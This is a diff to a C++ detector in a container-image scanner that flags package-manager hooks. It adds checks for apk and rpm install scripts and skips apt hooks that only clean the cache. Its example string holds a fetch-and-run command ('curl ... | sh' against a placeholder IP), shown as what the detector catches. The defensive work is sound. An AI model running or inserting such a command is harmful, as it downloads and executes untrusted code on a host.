@@ -3,19 +3,25 @@
 //
 // Hooks of apt are ordinary in images: they throw away downloaded packages. Scripts of packages fetch and decode
 // nothing; dpkg's database says nothing about their content, but a layer that changes one while the package keeps
-// its version was not made by dpkg. Scripts of rpm and apk lie inside their databases and are not looked at here.
+// its version was not made by dpkg. Scripts of rpm lie in its database, those of apk in an archive beside it.
 #include <algorithm>
 #include <array>
 #include <map>
 
 #include "detect/detector.hpp"
+#include "detect/shell_facts.hpp"
 #include "detect/start_entries.hpp"
+#include "formats/byte_stream.hpp"
+#include "formats/tar.hpp"
 
 namespace hullcheck::detect {
 namespace {
 
 constexpr std::size_t k_most_bytes = std::size_t{1} << 20;
 constexpr std::size_t k_most_shown = 200;
+constexpr std::size_t k_most_scripts = 5000;
+constexpr std::size_t k_most_script = std::size_t{256} << 10;
+constexpr std::size_t k_most_archive = std::size_t{32} << 20;
 
 constexpr std::array<RuleRow, 1> k_rows{{
     {"P07", EvidenceClass::strong, model::Severity::high, 80, "Hook of a package manager", "T1546.016",
@@ -37,6 +43,41 @@ std::string package_of_script(std::string_view path) {
   std::string_view name = layers::base_name(path);
   name = name.substr(0, name.rfind('.'));
   return std::string(name.substr(0, name.find(':')));
+}
+
+bool is_apk_scripts(std::string_view path) { return path.ends_with("lib/apk/db/scripts.tar"); }
+
+// The rules that other detectors have against a script as it would run, or "".
+std::string rules_against(const std::string& path, std::string_view text) {
+  const ShellFacts facts = facts_of_text(text);
+  const ShellUnit unit{path, {}, 1, Reach::present, false, facts, nullptr};
+  EvidenceSink sink;
+  for (const auto& entry : DetectorRegistry::all()) entry.instance->shell(unit, sink);
+  std::string rules;
+  for (const Evidence& evidence : sink.take()) {
+    const char letter = family(evidence.rule);
+    const bool counts = (letter == 'D' || letter == 'B' || letter == 'H' || letter == 'M') &&
+                        evidence.cls <= EvidenceClass::supporting && evidence.rule != k_hint_rule;
+    if (counts && rules.find(evidence.rule) == std::string::npos)
+      rules += (rules.empty() ? "" : ", ") + evidence.rule;
+  }
+  return rules;
+}
+
+// Members are called "NAME-VERSION.DIGEST.post-install".
+void read_apk_scripts(const layers::FileView& file, EvidenceSink& out) {
+  const auto stream = formats::memory_stream(file.bytes);
+  formats::TarReader tar(*stream, {});
+  for (std::size_t count = 0; count < k_most_scripts; ++count) {
+    const auto member = tar.next();
+    if (!member || *member == nullptr) return;
+    const std::string name = (*member)->name.substr(0, k_most_shown);
+    std::string text;
+    for (auto piece = tar.read(); piece && !piece->empty() && text.size() < k_most_script; piece = tar.read())
+      text.append(as_text(*piece));
+    if (const std::string rules = rules_against(name, text); !rules.empty())
+      out.add(evidence_of(k_rows[0], "script of a package: " + name + " (see " + rules + ")"));
+  }
 }
 
 bool is_npm_settings(std::string_view path) {
@@ -72,16 +113,34 @@ void read_npm(std::string_view text, EvidenceSink& out) {
   }
 }
 
+// Images of distributions throw downloaded packages away after each installation.
+bool only_cleans_up(std::string_view command) {
+  static constexpr std::array<std::string_view, 7> k_words = {"rm", "-f", "-rf", "true", "||", "&&", ":"};
+  while (!command.empty()) {
+    const std::size_t end = std::min(command.find(' '), command.size());
+    const std::string_view word = command.substr(0, end);
+    command.remove_prefix(std::min(end + 1, command.size()));
+    const bool cache = (word.starts_with("/var/cache/apt/") || word.starts_with("/var/lib/apt/lists")) &&
+                       word.find_first_of(";|&`$()<>") == std::string_view::npos &&
+                       word.find("..") == std::string_view::npos;
+    if (!word.empty() && !cache && std::find(k_words.begin(), k_words.end(), word) == k_words.end()) return false;
+  }
+  return true;
+}
+
 class PackageHooks final : public Detector {
  public:
   bool wants(const layers::FileInfo& file) const override {
+    if (is_apk_scripts(file.path())) return file.size() > 0 && file.size() <= k_most_archive;
     if (file.size() == 0 || file.size() > k_most_bytes) return false;
     return start_file_kind(file.path()) == StartFileKind::apt_hook || is_npm_settings(file.path());
   }
 
   void collect(const layers::FileView& file, EvidenceSink& out) const override {
     if (is_npm_settings(file.path())) return read_npm(file.text(), out);
+    if (is_apk_scripts(file.path())) return read_apk_scripts(file, out);
     for (const StartCommand& command : parse_start_file(StartFileKind::apt_hook, file.text()).commands) {
+      if (only_cleans_up(command.command)) continue;
       Evidence evidence = evidence_of(k_rows[0], "apt runs: " + command.command.substr(0, k_most_shown));
       evidence.cls = is_odd_command(command.command) ? EvidenceClass::supporting : EvidenceClass::context;
       evidence.line = command.line;
@@ -94,9 +153,29 @@ class PackageHooks final : public Detector {
     raise_entries(context, k_rows[0], out);
     raise_scripts(context, k_rows[0], EvidenceClass::strong, "script of a package", is_package_script, out);
     changed_scripts(context, out);
+    rpm_scripts(context, out);
   }
 
  private:
+  // The inventory keeps the scripts that do more than packages do.
+  static void rpm_scripts(const ImageContext& context, ImageEvidence& out) {
+    const auto& packages = context.inventory.packages;
+    const bool any = std::any_of(packages.begin(), packages.end(), [](const auto& one) { return one.type == "rpm"; });
+    if (!any) return;
+    for (const inventory::FoundFacts& found : inventory::found_facts(context.image, "rpm", nullptr)) {
+      if (found.visibility != model::Visibility::final) continue;
+      for (const auto& [key, value] : found.facts.values) {
+        const std::size_t newline = value.find('\n');
+        if (key != "script" || newline == std::string::npos) continue;
+        const std::string rules = rules_against(found.path, std::string_view(value).substr(newline + 1));
+        if (!rules.empty())
+          add_at(context, found.file,
+                 evidence_of(k_rows[0], "script of package " + value.substr(0, newline) + " (see " + rules + ")"),
+                 out);
+      }
+    }
+  }
+
   static void changed_scripts(const ImageContext& context, ImageEvidence& out) {
     std::map<std::string, const model::Package*> packages;
     for (const model::Package& package : context.inventory.packages)
@@ -135,7 +214,7 @@ class PackageHooks final : public Detector {
 
 const util::Registered<PackageHooks> registered{{
     .id = "package-hooks",
-    .version = 1,
+    .version = 2,
     .summary = "commands that apt, dpkg and npm run by themselves",
     .example = "apt runs: curl -s http://192.0.2.1/x | sh",
     .rules = k_rows,
